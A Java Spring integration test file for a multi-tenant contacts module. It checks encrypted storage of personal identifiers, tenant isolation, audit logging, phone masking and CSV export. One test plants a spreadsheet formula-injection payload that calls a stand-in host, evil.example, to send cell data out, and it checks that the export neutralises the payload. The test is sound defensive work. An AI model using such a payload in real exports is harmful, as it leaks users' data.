package ru.kredo.contacts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

import ru.kredo.Fixtures;
import ru.kredo.IntegrationTest;
import ru.kredo.audit.AuditAction;
import ru.kredo.audit.AuditLog;
import ru.kredo.operator.TenantProvisioning.Provisioned;
import ru.kredo.tenancy.TenantKind;

@IntegrationTest
@ExtendWith(OutputCaptureExtension.class)
class ContactsIntegrationTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	Fixtures fixtures;

	@Autowired
	Contacts contacts;

	@Autowired
	AuditLog audit;

	@Autowired
	JdbcClient jdbc;

	@Test
	void identifiersAreStoredSealed() {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		Contact contact = fixtures.contact(tenant);

		Map<String, Object> row = jdbc.sql("select * from contacts where id = ?").param(contact.id().value()).query().singleRow();

		String everything = row.values().stream()
			.map(v -> v instanceof byte[] bytes ? new String(bytes, StandardCharsets.ISO_8859_1) : String.valueOf(v))
			.reduce("", String::concat);
		assertThat(everything).doesNotContain("987654", "500100732259", "9165551234", "1985-03-14", "14.03.1985");
		assertThat(contacts.get(tenant.tenant().id(), contact.id())).isEqualTo(contact);
	}

	@Test
	void findsAContactByPassportOrByNameAndBirthDateHoweverTheNameIsSpelled() {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		Contact contact = fixtures.contact(tenant);

		assertThat(contacts.findByPassport(tenant.tenant().id(), PassportNumber.parse("45 10 987654"))).containsExactly(contact);
		assertThat(contacts.findByNameAndBirthDate(tenant.tenant().id(), new FullName("СЕМЕНОВА", "анна", "ПЕТРОВНА"),
				LocalDate.of(1985, 3, 14))).containsExactly(contact);
		assertThat(contacts.findByNameAndBirthDate(tenant.tenant().id(), new FullName("Семенова", "Анна", "Петровна"),
				LocalDate.of(1985, 3, 15))).isEmpty();
	}

	@Test
	void namesakesBornTheSameDayWithDifferentPassportsStayTwoPeople() {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		FullName name = new FullName("Кузнецов", "Сергей", "Петрович");
		LocalDate born = LocalDate.of(1980, 1, 1);

		List<Contact> added = contacts.addOrFind(tenant.tenant().id(), List.of(
				new PersonDetails(name, born, PassportNumber.parse("4501 111111"), null, null, null, null),
				new PersonDetails(name, born, PassportNumber.parse("4501 222222"), null, null, null, null),
				new PersonDetails(name, born, null, null, null, null, "sergey@example.ru")));

		assertThat(added.get(0).id()).isNotEqualTo(added.get(1).id());
		assertThat(added.get(2).id()).as("no passport: the same person by name and birth date")
			.isIn(added.get(0).id(), added.get(1).id());
		assertThat(contacts.count(tenant.tenant().id())).isEqualTo(2);
	}

	@Test
	void anotherTenantsLookupFindsNothing() {
		Provisioned owner = fixtures.tenant(TenantKind.COLLECTOR);
		Provisioned stranger = fixtures.tenant(TenantKind.BROKER);
		fixtures.contact(owner);

		assertThat(contacts.findByPassport(stranger.tenant().id(), PassportNumber.parse("4510 987654"))).isEmpty();
	}

	@Test
	void viewingAContactIsAuditedAndNothingPersonalReachesTheLog(CapturedOutput output) throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		Contact contact = fixtures.contact(tenant);

		String page = mvc.perform(get("/contacts/{id}", contact.id().value()).with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();
		mvc.perform(get("/api/v1/contacts/{id}", contact.id().value()).header("Authorization", "Bearer " + tenant.apiKey().secret()))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.passportNumber").value("987654"));

		assertThat(page).contains("4510 987654", "+7 916 555-12-34");
		assertThat(audit.latest(tenant.tenant().id(), 5))
			.filteredOn(e -> e.action() == AuditAction.PERSONAL_DATA_VIEWED)
			.hasSize(2)
			.allSatisfy(e -> assertThat(e.objectId()).isEqualTo(contact.id().toString()));
		assertThat(output.getAll()).doesNotContain("987654", "500100732259", "555-12-34", "5551234");
	}

	@Test
	void anExportIsAuditedWithItsSize() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		fixtures.contact(tenant);

		byte[] csv = mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsByteArray();

		assertThat(new String(csv, StandardCharsets.UTF_8)).startsWith("\uFEFFФамилия;Имя;Отчество")
			.contains("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;'+79165551234;anna@example.ru");
		assertThat(audit.latest(tenant.tenant().id(), 5))
			.anySatisfy(e -> {
				assertThat(e.action()).isEqualTo(AuditAction.EXPORTED);
				assertThat(e.detail()).isEqualTo("rows:1");
			});
	}

	@Test
	void anExportNeverHoldsACellThatASpreadsheetWouldRunAsAFormula() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		contacts.add(tenant.tenant().id(), new FullName("Семёнова", "Анна", null), LocalDate.of(1985, 3, 14), null, null,
				null, null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");

		String csv = new String(mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);

		assertThat(csv).contains("Семёнова;Анна;;1985-03-14;;;;;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
			.doesNotContain(";=", ";\"=");
	}

	@Test
	void theListSearchesByLastNameAndMasksPhones() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		fixtures.contact(tenant);

		String rows = mvc.perform(get("/contacts").param("q", "сем").header("HX-Request", "true").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();

		assertThat(rows).contains("Семёнова Анна Петровна", "+7 *** ***-12-34").doesNotContain("<html", "555-12-34");
	}
}
